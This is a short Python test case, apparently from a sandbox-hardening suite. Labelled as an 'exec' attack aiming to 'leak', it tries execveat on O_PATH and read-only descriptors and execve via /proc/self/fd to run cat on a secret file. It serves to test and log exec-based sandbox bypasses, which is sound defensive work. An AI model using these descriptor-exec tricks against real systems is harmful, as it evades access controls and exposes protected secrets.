# SPDX-License-Identifier: Apache-2.0
# attack: execveat of descriptors: an O_PATH one, a read-only one, a memfd
# class: exec
# wins: leak
# logged: execveat
from kit import *

tried()
argv = (ctypes.c_char_p * 3)(b'cat', os.fsencode(SECRET), None)
env = (ctypes.c_char_p * 1)(None)
for p in ('/bin/cat', '/usr/bin/cat', F['python']):
    for flags in (os.O_PATH, os.O_RDONLY):
        fd = openat(p, flags)
        if fd >= 0 or not NATIVE:
            sc('execveat', fd, b'', argv, env, AT_EMPTY_PATH)
            sc('execve', b'/proc/self/fd/%d' % fd, argv, env)
